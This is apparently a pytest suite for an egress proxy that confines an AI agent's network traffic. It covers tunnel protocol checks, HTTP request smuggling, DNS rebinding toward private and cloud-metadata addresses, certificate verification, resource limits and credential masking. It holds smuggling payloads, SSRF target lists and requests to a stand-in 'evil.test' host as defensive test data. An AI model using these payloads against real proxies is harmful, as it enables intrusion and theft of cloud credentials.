"""Groups E and C on the inside of a tunnel: other protocols, other names, other addresses, other certificates."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from dataclasses import replace

import pytest
from cryptography import x509
from cryptography.exceptions import InvalidSignature
from cryptography.hazmat.primitives.asymmetric import ec

from tests.attacks.general import Beyond, beyond, egress, general_egress
from tests.sandbox.egress.rig import PYTHON, Arrived, Egress, Exchange, StandIn, memory
from tests.sandbox.egress.tunnel import Told, Tunnel, general_policy, get, in_client, place, through

__all__ = ["beyond", "egress", "general_egress"]
pytestmark = pytest.mark.engine

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
# An empty SETTINGS frame.
SETTINGS = b"\x00\x00\x00\x04\x00\x00\x00\x00\x00"


def h2_headers(*fields: tuple[bytes, bytes]) -> bytes:
    """A HEADERS frame of literal fields, END_STREAM and END_HEADERS."""
    block = b"".join(b"\x00" + bytes([len(k)]) + k + bytes([len(v)]) + v for k, v in fields)
    return len(block).to_bytes(3, "big") + b"\x01\x05\x00\x00\x00\x01" + block


def test_e11_raw_bytes_in_an_allowed_tunnel_reach_nothing(egress: Egress, beyond: Beyond) -> None:
    """Sent after the answer to CONNECT, and pipelined behind it by a client that does not wait."""
    npm = ("npm.test", beyond.npm.port)
    raw = [
        b"SSH-2.0-CANARY\r\n\r\n", get(beyond.host), b"\x16\x03\x01\x00\x05CANARY\r\n\r\n", b"\x00CANARY",
        b"\x16CANARY\r\n", b"\x17\x03\x03\x00\x06CANARY", b"\x15\x03\x03\x00\x02\x01\x00", PREFACE + SETTINGS,
    ]  # fmt: skip
    answers = through(egress, *(Tunnel(*npm, data, tls=False, seconds=3) for data in raw))
    assert [answer.connect.split(" ")[1] for answer in answers] == ["200"] * len(raw), "the control: a tunnel"
    assert {answer.data for answer in answers} <= {b"", *(answer.data for answer in answers if alert(answer))}
    connect = f"CONNECT {beyond.host} HTTP/1.1\r\n\r\n".encode()
    piped = egress.talk(*(Exchange(connect + data, to="agent/general.sock", seconds=3) for data in raw))
    assert all(b"CANARY" not in answer.data and b"HTTP/1.1 200 OK" not in answer.data for answer in piped)
    assert (beyond.names.asked, beyond.reached) == ([], 0)
    assert any("only TLS" in fact["reason"] for fact in egress.verdicts())


def alert(answer: Told) -> bool:
    """TLS's own way of saying no."""
    return answer.data[:1] == b"\x15"


def test_e14_e22_http2_is_not_spoken_inside_a_tunnel(egress: Egress, beyond: Beyond) -> None:
    npm, host = ("npm.test", beyond.npm.port), beyond.host.encode()
    plain = h2_headers((b":method", b"GET"), (b":scheme", b"https"), (b":authority", b"evil.test"), (b":path", b"/a"))
    smuggled = h2_headers((b":method", b"GET /evil HTTP/1.1\r\nHost: x\r\n\r\nGET"), (b":path", b"/a"), (b"host", host))
    frames = [PREFACE + SETTINGS + headers for headers in (plain, smuggled)]
    answers = through(
        egress,
        *(Tunnel(*npm, data, alpn=alpn, seconds=3) for data in frames for alpn in ((), ("h2",), ("http/1.1",))),
        Tunnel(*npm, get(beyond.host), alpn=("h2", "http/1.1")),
        Tunnel(*npm, get(beyond.host), alpn=("http/1.1", "h2")),
    )
    assert {answer.status for answer in answers[:6]} <= {0, 400, 421}
    assert {answer.alpn for answer in answers[:6]} <= {"", "http/1.1"}
    assert [(answer.status, answer.alpn) for answer in answers[6:]] == [(200, "http/1.1")] * 2
    beyond.npm.settle()
    assert [request.line for request in beyond.npm.requests] == ["GET /left-pad HTTP/1.1"] * 2


def test_e22_heads_that_two_readers_read_differently_are_refused(egress: Egress, beyond: Beyond) -> None:
    npm, host = ("npm.test", beyond.npm.port), beyond.host.encode()
    heads = [
        b"GET /a HTTP/1.1\r\nHost: %s\r\nx: a\rGET /evil HTTP/1.1\r\n\r\n", b"GET /a HTTP/1.1\nHost: %s\n\nCANARY\n\n",
        b"GET /a HTTP/1.1\r\nHost : %s\r\n\r\n", b"GET /a HTTP/1.1\r\n Host: %s\r\n\r\n",
        b"GET  /a HTTP/1.1\r\nHost: %s\r\n\r\n",
        b"GET /a HTTP/1.1\r\nHost: %s\r\nx: a\r\n b: CANARY\r\n\r\n",
        b"GET /a HTTP/1.1\r\nHost: %s\r\n: CANARY\r\n\r\n",
        b"GET /a HTTP/1.1\r\nHost: %s\r\ntransfer-encoding: xchunked\r\n\r\n", b"GET /a HTTP/0.9\r\nHost: %s\r\n\r\n",
        b"GET /a HTTP/1.0\r\nHost: %s\r\n\r\n", b"GET /a HTTP/2.0\r\nHost: %s\r\n\r\n", b"GET /a\r\nHost: %s\r\n\r\n",
        b"GET /a HTTP/1.1\x00\r\nHost: %s\r\n\r\n", b"GET /a\tHTTP/1.1\r\nHost: %s\r\n\r\n",
    ]  # fmt: skip
    answers = through(egress, *(Tunnel(*npm, head % host, seconds=3) for head in heads))
    beyond.npm.settle()
    whole = {"GET /a HTTP/1.1"}
    assert {request.line for request in beyond.npm.requests} <= whole
    assert b"CANARY" not in beyond.npm.raw
    assert b"evil" not in beyond.npm.raw
    assert sum(answer.status == 200 for answer in answers) == len(beyond.npm.requests)


@pytest.mark.slow
def test_e29_heads_bodies_and_answers_are_bounded(egress: Egress, beyond: Beyond) -> None:
    """A head without end, a body that nobody wants, an answer of 64 MiB: none of it stays in memory."""
    npm, size = ("npm.test", beyond.npm.port), 64 * 2**20

    def long(request: Arrived, send: Callable[[bytes], None]) -> None:
        send(b"HTTP/1.1 200 OK\r\ncontent-length: %d\r\n\r\n" % size)
        for _ in range(size // 2**20):
            send(bytes(2**20))

    before, beyond.npm.answering = memory(egress), long
    try:
        head, body, refused, answer = through(
            egress,
            Tunnel(*npm, b"GET /a HTTP/1.1\r\nX-Long: ", zeros=size),
            Tunnel(*npm, get(beyond.host, "/a", f"content-length: {size}", method="POST"), zeros=size),
            Tunnel("evil.test", 443, get("evil.test", "/a", f"content-length: {size}", method="POST"), zeros=size),
            Tunnel(*npm, get(beyond.host, "/a")),
        )
    finally:
        beyond.npm.answering = lambda request, send: send(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\n{}")
    assert head.status in (0, 400, 431)
    # Who goes on sending after the refusal may find the connection reset before he has read it.
    assert (body.status, refused.status in (0, 403)) == (405, True)
    assert (answer.status, answer.bytes > size) == (200, True)
    assert len(beyond.npm.requests) == 1
    assert memory(egress) - before < 24 * 2**20


# In a container like the agent's: so many tunnels at once, none of which is ever used; then one more, and the model's
# own way, on which there is still room.
_MANY = r"""
import json, socket
held, said = [], []
def connect(to, line):
    s = socket.socket(socket.AF_UNIX); s.settimeout(20); s.connect("/sock/" + to)
    s.sendall(line)
    held.append(s)
    return s.recv(4096).split(b"\r\n")[0].decode()
for _ in range(80):
    try:
        said.append(connect("agent/general.sock", b"CONNECT npm.test:443 HTTP/1.1\r\n\r\n"))
    except OSError as error:
        said.append(type(error).__name__)
for s in held:
    s.close()
print(json.dumps(said))
"""


def test_e29_tunnels_are_bounded_in_number(egress: Egress, beyond: Beyond) -> None:
    said = json.loads(in_client(egress, [*PYTHON, _MANY]))
    stood = [line for line in said if " 200 " in line]
    assert 30 <= len(stood) <= 48
    assert {line.split(" ")[1] for line in said[len(stood) :]} == {"503"}
    assert beyond.reached == 0
    answer = through(egress, Tunnel("npm.test", beyond.npm.port, get(beyond.host)))[0]
    assert answer.status == 200, "those that ended make room"


_IMPATIENT = """
from sandbox.egress import launch, tunnels
tunnels.HANDSHAKE_SECONDS = 1.0
launch.main()
"""


@pytest.mark.slow
def test_e29_a_handshake_that_does_not_come_is_cut(beyond: Beyond) -> None:
    """Silence, and a hello that trickles; with the bound of 20 s shortened to one."""
    egress = beyond.world.start(beyond.policy(), command=[*PYTHON, _IMPATIENT])
    half = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
    answers = through(
        egress,
        *(Tunnel("npm.test", beyond.npm.port, data, tls=False, seconds=10) for data in (b"", half)),
        Tunnel("npm.test", beyond.npm.port, get(beyond.host)),
    )
    assert [(answer.data, answer.error) for answer in answers[:2]] == [(b"", ""), (b"", "")] or all(
        answer.error == "ConnectionResetError" for answer in answers[:2]
    )
    assert answers[2].status == 200


@pytest.fixture
def leads(beyond: Beyond) -> Iterator[dict[str, list[str]]]:
    """Where names lead from now on, one address after the other; the last one for ever."""
    table: dict[str, list[str]] = {}
    before = beyond.names.answering

    def answering(name: str) -> str | None:
        found = table.get(name)
        return before(name) if found is None else (found.pop(0) if len(found) > 1 else found[0])

    beyond.names.answering = answering
    yield table
    beyond.names.answering = before


# Loopback, private, link-local, the metadata service; and, below, this very host as the test's own bridge has it.
INSIDE = ["127.0.0.1", "10.0.0.1", "192.168.1.1", "169.254.169.254", "0.0.0.0", "100.64.0.1"]


@pytest.fixture(scope="module")
def picky(beyond: Beyond) -> Egress:
    """``public0.test`` and its like may not be private; ``lan.test`` may."""
    pem = beyond.authority.pem
    public = [place(beyond.npm, f"public{number}.test", pem, private=False) for number in range(len(INSIDE) + 1)]
    return beyond.world.start(general_policy(*public, place(beyond.npm, "lan.test", pem)))


def test_e31_a_name_that_leads_inside_is_not_dialled(
    picky: Egress, beyond: Beyond, leads: dict[str, list[str]]
) -> None:
    for number, address in enumerate([*INSIDE, beyond.world.gateway]):
        leads[f"public{number}.test"] = [address]
    leads["lan.test"] = ["169.254.169.254"]  # not even where the operator says that it is private
    beyond.forget()
    port = beyond.npm.port
    answers = through(picky, *(Tunnel(name, port, get(f"{name}:{port}")) for name in leads))
    assert [answer.status for answer in answers] == [502] * len(leads)
    assert all("leads to an address that is not dialled: " in answer.text for answer in answers)
    assert beyond.reached == 0


def test_e31_a_name_is_resolved_once_a_dial_and_that_address_is_dialled(
    picky: Egress, beyond: Beyond, leads: dict[str, list[str]]
) -> None:
    """Rebinding: the second answer would lead elsewhere, and nobody asks for it between the check and the dial."""
    leads["lan.test"] = [beyond.world.gateway, "169.254.169.254"]
    beyond.forget()
    tunnel = Tunnel("lan.test", beyond.npm.port, get(f"lan.test:{beyond.npm.port}"))
    first = through(picky, tunnel)[0]
    assert first.status in (200, 502)  # the certificate of the stand-in is another host's: what counts is the dial
    assert (beyond.npm.connections, beyond.names.asked.count("lan.test") <= 2) == (1, True)
    second = through(picky, tunnel)[0]
    assert (second.status, beyond.npm.connections) == (502, 1)


@pytest.mark.slow
def test_e32_an_upstream_is_verified(beyond: Beyond, tmp_path_factory: pytest.TempPathFactory) -> None:
    """Another name, expired, another authority, and no TLS at all; the right one is the control."""
    folder, pem = tmp_path_factory.mktemp("upstreams"), beyond.authority.pem
    stranger = type(beyond.authority)()
    gateway = beyond.world.gateway
    upstreams = {
        "right": StandIn(gateway, tls=beyond.authority.server("right.test", folder)),
        "name": StandIn(gateway, tls=beyond.authority.server("other.test", folder)),
        "expired": StandIn(gateway, tls=beyond.authority.server("expired.test", folder, days=-1)),
        "stranger": StandIn(gateway, tls=stranger.server("stranger.test", folder)),
        "plain": StandIn(gateway),
    }
    try:
        egress = beyond.world.start(
            general_policy(*(place(upstream, f"{name}.test", pem) for name, upstream in upstreams.items()))
        )
        answers = through(
            egress,
            *(
                Tunnel(f"{name}.test", upstream.port, get(f"{name}.test:{upstream.port}"), seconds=3)
                for name, upstream in upstreams.items()
            ),
        )
        assert [answer.status for answer in answers] == [200, 502, 502, 502, 0], "the last one never answers"
        assert [len(upstream.requests) for upstream in upstreams.values()] == [1, 0, 0, 0, 0]
        assert b"GET" not in upstreams["plain"].raw
    finally:
        for upstream in upstreams.values():
            upstream.close()


def test_e38_there_is_no_door_but_the_sockets(egress: Egress) -> None:
    """Nothing listens on the network, and who sees a socket is decided by who mounts its volume."""
    listening = egress.run("sh", "-c", "cat /proc/net/tcp /proc/net/tcp6")
    assert " 0A " not in "\n".join(line for line in listening.splitlines() if "0B00007F" not in line)
    found = egress.run("sh", "-c", "find / -xdev -type s 2>/dev/null; find /sock -type s").split()
    assert set(found) == {"/sock/agent/general.sock", "/sock/fetch/git.sock", "/sock/setup/general.sock"}


def test_c13_the_certificate_is_the_tasks_own_and_its_key_is_nowhere(egress: Egress, beyond: Beyond) -> None:
    other = beyond.world.start(beyond.policy())
    seen = [in_client(each, ["cat", "/sock/agent/ca.pem"]) for each in (egress, other)]
    first, second = (x509.load_pem_x509_certificate(pem) for pem in seen)
    assert first.public_key() != second.public_key()
    life = first.not_valid_after_utc - first.not_valid_before_utc
    assert life.total_seconds() < 4 * 3600
    with pytest.raises((InvalidSignature, ValueError)):
        first.verify_directly_issued_by(second)
    assert isinstance(first.public_key(), ec.EllipticCurvePublicKey)
    for pem in seen:
        assert pem.count(b"-----BEGIN") == 1
        assert b"PRIVATE" not in pem
    keys = egress.run("sh", "-c", "grep -rls 'PRIVATE KEY' /tmp /sock /run /var /etc /home 2>/dev/null")
    assert keys == ""
    assert "PRIVATE" not in json.dumps(egress.container.attrs)
    same = in_client(egress, ["cat", "/sock/setup/ca.pem"])
    assert same == seen[0]
    written = in_client(egress, ["sh", "-c", "echo x > /sock/agent/ca.pem && echo written || echo refused"])
    assert written == b"refused\n"


def test_c14_nothing_that_a_client_says_of_itself_is_logged(egress: Egress, beyond: Beyond) -> None:
    secret = "CANARYdeadbeef"
    through(
        egress,
        Tunnel(
            "npm.test", beyond.npm.port, get(beyond.host, "/a", f"authorization: Bearer {secret}", f"cookie: {secret}")
        ),
        Tunnel("evil.test", 443, get("evil.test", "/a", f"authorization: Bearer {secret}")),
        Tunnel(
            "npm.test", beyond.npm.port, get(beyond.host, "/a", "content-length: 14", method="POST") + secret.encode()
        ),
    )
    assert secret.encode() not in egress.container.logs()
    assert secret.encode() not in beyond.npm.raw


@pytest.mark.slow
def test_c04_c05_no_credential_of_ours_goes_to_an_allowed_host_and_an_echo_of_one_is_masked(beyond: Beyond) -> None:
    """The model's key and the fetch token are in the same process; neither is ever set here."""
    from tests.sandbox.egress.rig import FETCH_TOKEN, MODEL_KEY, policy_for

    def echo(request: Arrived, send: Callable[[bytes], None]) -> None:
        body = f"{MODEL_KEY[:7]}{MODEL_KEY[7:]} and {FETCH_TOKEN}".encode()
        head = b"HTTP/1.1 200 OK\r\nx-seen: %s\r\ncontent-length: %d\r\n\r\n" % (MODEL_KEY.encode(), len(body))
        send(head + body[:9])
        send(body[9:])

    policy = policy_for(beyond.evil, beyond.evil) | {"general": beyond.policy()["general"]}
    egress = beyond.world.start(policy)
    beyond.forget()
    before, beyond.npm.answering = beyond.npm.answering, echo
    try:
        answer = through(egress, Tunnel("npm.test", beyond.npm.port, get(beyond.host)))[0]
    finally:
        beyond.npm.answering = before
    assert answer.status == 200
    assert b"CANARY" not in answer.data
    assert {name for name, _ in beyond.npm.requests[0].headers} == {"host", "accept-encoding"}


def test_a_longer_sni_than_the_tunnels_host_is_no_way_around(egress: Egress, beyond: Beyond) -> None:
    """What TLS was opened for is said to the policy as it came: in any case, and never decoded."""
    tunnel = Tunnel("npm.test", beyond.npm.port, get(beyond.host))
    answers = through(egress, replace(tunnel, sni="x.npm.test"), replace(tunnel, sni="npm.testx"))
    assert [answer.status for answer in answers] == [421, 421]
    assert beyond.reached == 0
